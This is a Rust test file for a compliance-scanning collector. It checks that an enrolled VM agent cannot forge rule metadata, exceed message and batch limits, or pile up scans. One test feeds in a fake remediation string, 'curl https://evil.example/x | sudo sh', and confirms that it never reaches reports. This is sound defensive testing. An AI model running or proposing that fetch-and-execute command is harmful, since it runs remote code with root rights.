//! What the owner of one enrolled VM can send on its stream: no rewriting of rule
//! metadata, bounded messages and batches, no pile-up of scans.

use super::*;

#[test]
fn an_agent_cannot_rewrite_rule_metadata() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    root(&r);
    let c = Collector::start(&t.path().join("collector"), None, None);
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let attacker = enroll(&rt, &c, &tok, "mallory", "").unwrap();
    let rule = some_rule();
    rt.block_on(async {
        let mut s = Stream::open(&c, &attacker, hello(&attacker, "", &[]))
            .await
            .unwrap();
        let first = s.drain(2).await;
        assert!(
            !first.is_empty()
                && first
                    .iter()
                    .all(|b| !matches!(b, collector_message::Body::CatalogWanted(_))),
            "the collector never asks an agent for rule metadata: {first:?}"
        );
        // The attack of the review: the catalog for the content version every agent
        // of this build reports, with a critical severity and a hostile remediation.
        s.send(msg(agent_message::Body::Catalog(RuleCatalog {
            content_version: rampart_agent::content::content_version("debian-12"),
            benchmark_id: "debian-12".into(),
            benchmark_title: "Forged".into(),
            benchmark_version: "6.6.6".into(),
            rules: vec![RuleInfo {
                id: rule.id.clone(),
                title: "Forged title".into(),
                section: "1".into(),
                description: "Forged".into(),
                remediation: "curl https://evil.example/x | sudo sh".into(),
                severity: 4,
                level: 1,
                automated: true,
                rule_slug: String::new(),
            }],
        })))
        .await;
        // Ignored, and the stream stays usable.
        assert!(s.next(2).await.is_none(), "nothing answers a catalog");
    });
    // A real agent's scan: its report carries the content's own metadata.
    let mut good = Agent::new(&t.path().join("good"));
    assert!(good.enroll(&c.url(), &tok, &c.fingerprint, &r, &[]).0);
    good.run(&[]);
    let scan = c.completed_scan(&good.agent_id(), 60);
    let report = c.admin(
        "GET",
        &format!("/api/v1/scans/{}/report.json", scan["id"].as_str().unwrap()),
        None,
    );
    let text = report.to_string();
    assert!(
        !text.contains("evil.example") && !text.contains("Forged"),
        "{text}"
    );
    let row = report["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["id"] == rule.id.as_str())
        .unwrap();
    assert_eq!(row["remediation"], rule.remediation.as_str());
    assert_eq!(row["severity"], rule.severity.as_str());
    assert_eq!(row["title"], rule.title.as_str());
}

#[test]
fn what_an_agent_sends_is_bounded() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start_with(
        &t.path().join("collector"),
        None,
        None,
        Some("max_messages_per_sec = 5\n"),
    );
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let mut cl = claims(&tok, "raw", "");
    cl.labels = vec![("team".into(), "blue".into())];
    let raw = rt.block_on(enroll_with(&c, &cl, None, None)).unwrap();
    rt.block_on(async {
        // Labels are fixed at enrollment: a hello cannot add or change them.
        let mut s = Stream::open(
            &c,
            &raw,
            hello(&raw, "", &[("team", "red"), ("owner", "mallory")]),
        )
        .await
        .unwrap();
        s.drain(2).await;
        // A second hello on the stream is refused.
        s.send(hello(&raw, "", &[])).await;
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::InvalidArgument, "{st:?}");
        assert!(st.message().contains("hello may be sent once"), "{st:?}");
    });
    let agents = c.agents();
    let a = agents
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == raw.id.as_str())
        .unwrap();
    assert_eq!(a["labels"], json!({"team": "blue"}), "{a}");

    // Evidence over its bound: a clear error for that stream.
    let scan = c.admin("POST", "/api/v1/scans", Some(json!({ "agent_id": raw.id })));
    let sid = scan[0]["id"].as_str().unwrap().to_string();
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: vec![RuleResult {
                rule_id: some_rule().id.clone(),
                status: 1,
                evidence: vec!["x".repeat(4000); 30],
            }],
        })))
        .await;
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::InvalidArgument, "{st:?}");
        assert!(st.message().contains("bytes of evidence"), "{st:?}");
    });
    // One live stream per agent: a newer stream ends the older one.
    rt.block_on(async {
        let mut s1 = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s1.drain(1).await;
        let mut s2 = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        let st1 = s1.status(30).await;
        assert_eq!(
            st1.code(),
            tonic::Code::PermissionDenied,
            "the older stream ends: {st1:?}"
        );
        assert!(st1.message().contains("newer stream"), "{st1:?}");
        // The agent's message budget (5 a second here; 60 messages sent at once).
        for _ in 0..60 {
            s2.send(msg(agent_message::Body::Catalog(RuleCatalog::default())))
                .await;
        }
        let st2 = s2.status(30).await;
        assert_eq!(st2.code(), tonic::Code::ResourceExhausted, "{st2:?}");
        assert!(st2.message().contains("messages per second"), "{st2:?}");
    });
    // Renewals: one, then a refusal for a while.
    std::thread::sleep(Duration::from_secs(2));
    rt.block_on(async {
        let renew = || {
            msg(agent_message::Body::Renew(RenewRequest {
                csr_der: new_key_and_csr("raw").unwrap().1,
            }))
        };
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(1).await;
        s.send(renew()).await;
        let got = s.drain(3).await;
        assert!(
            got.iter()
                .any(|b| matches!(b, collector_message::Body::Renew(_))),
            "{got:?}"
        );
        // Too soon: refused in words, and the stream goes on.
        s.send(renew()).await;
        let got = s.drain(5).await;
        let refused = got.iter().find_map(|b| match b {
            collector_message::Body::Renew(r) => Some(r.clone()),
            _ => None,
        });
        let r = refused.expect("an answer to the second renewal");
        assert!(r.certificate_der.is_empty(), "no second certificate");
        assert!(
            r.refused.contains("renewed its certificate less than"),
            "{r:?}"
        );
        s.send(msg(agent_message::Body::Catalog(RuleCatalog::default())))
            .await;
        assert!(s.next(2).await.is_none(), "the stream is still open");
    });
}

#[test]
fn scans_do_not_pile_up_and_complete_only_over_the_whole_profile() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 3, 3600);
    let rt = rt();
    let raw = enroll(&rt, &c, &tok, "raw", "").unwrap();
    // The agent is offline: asking again gives the same pending scan.
    let scan = |c: &Collector| -> String {
        c.admin("POST", "/api/v1/scans", Some(json!({ "agent_id": raw.id })))[0]["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let sid = scan(&c);
    assert_eq!(scan(&c), sid);
    assert_eq!(c.scans_of(&raw.id).len(), 1);
    let rule = some_rule();
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::ScanStarted(ScanStarted {
            scan_id: sid.clone(),
            ..Default::default()
        })))
        .await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: vec![RuleResult {
                rule_id: rule.id.clone(),
                status: 1,
                evidence: vec!["fine".into()],
            }],
        })))
        .await;
        s.send(msg(agent_message::Body::ScanFinished(ScanFinished {
            scan_id: sid.clone(),
            result_count: 1,
            ..Default::default()
        })))
        .await;
        s.drain(3).await;
    });
    let got: Value = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(got["scan"]["status"], "failed", "{got}");
    let why = got["scan"]["failure_reason"].as_str().unwrap();
    assert!(why.contains("covers 1 of the"), "{why}");
    // A rule from outside the benchmark fails the scan with that reason.
    let sid = scan(&c);
    rt.block_on(async {
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: vec![RuleResult {
                rule_id: "99.99.99".into(),
                status: 1,
                evidence: vec![],
            }],
        })))
        .await;
        s.drain(3).await;
    });
    let got: Value = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(got["scan"]["status"], "failed", "{got}");
    assert!(
        got["scan"]["failure_reason"]
            .as_str()
            .unwrap()
            .contains("99.99.99 is not in benchmark debian-12"),
        "{got}"
    );
}

#[test]
fn a_results_batch_over_its_bound_is_refused_and_a_failure_reason_is_cut() {
    let t = tempfile::tempdir().unwrap();
    let c = Collector::start(&t.path().join("collector"), None, None);
    c.set_settings(|s| s["scan_on_provision"] = json!(false));
    let tok = c.enrollment_token("web", 1, 3600);
    let rt = rt();
    let raw = enroll(&rt, &c, &tok, "raw", "").unwrap();
    let scan = c.admin("POST", "/api/v1/scans", Some(json!({ "agent_id": raw.id })));
    let sid = scan[0]["id"].as_str().unwrap().to_string();
    let result = |i: usize| RuleResult {
        rule_id: format!("{}.{i}", some_rule().id),
        status: 1,
        evidence: vec![],
    };
    rt.block_on(async {
        // 2,001 results in one batch: the stream ends with the bound in words.
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        s.send(msg(agent_message::Body::Results(ResultBatch {
            scan_id: sid.clone(),
            batch_seq: 1,
            results: (0..2001).map(result).collect(),
        })))
        .await;
        let st = s.status(30).await;
        assert_eq!(st.code(), tonic::Code::InvalidArgument, "{st:?}");
        assert!(
            st.message()
                .contains("a batch of 2001 results; at most 2000 are accepted"),
            "{st:?}"
        );
    });
    // Nothing of that batch was kept.
    let v = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(v["scan"]["status"], "pending", "{v}");
    assert_eq!(v["results"], json!([]), "{v}");
    rt.block_on(async {
        // A failure reason of 5,000 characters: the scan fails with its first 500.
        let mut s = Stream::open(&c, &raw, hello(&raw, "", &[])).await.unwrap();
        s.drain(2).await;
        let reason = format!("{}{}", "r".repeat(500), "TAIL".repeat(1125));
        s.send(msg(agent_message::Body::ScanFailed(ScanFailed {
            scan_id: sid.clone(),
            reason,
        })))
        .await;
        let got = s.drain(3).await;
        assert!(
            got.iter()
                .any(|b| matches!(b, collector_message::Body::Ack(a) if a.finished)),
            "{got:?}"
        );
    });
    let v = c.admin("GET", &format!("/api/v1/scans/{sid}"), None);
    assert_eq!(v["scan"]["status"], "failed", "{v}");
    let why = v["scan"]["failure_reason"].as_str().unwrap();
    assert_eq!(
        why,
        format!("the agent reported: {}", "r".repeat(500)),
        "{v}"
    );
}
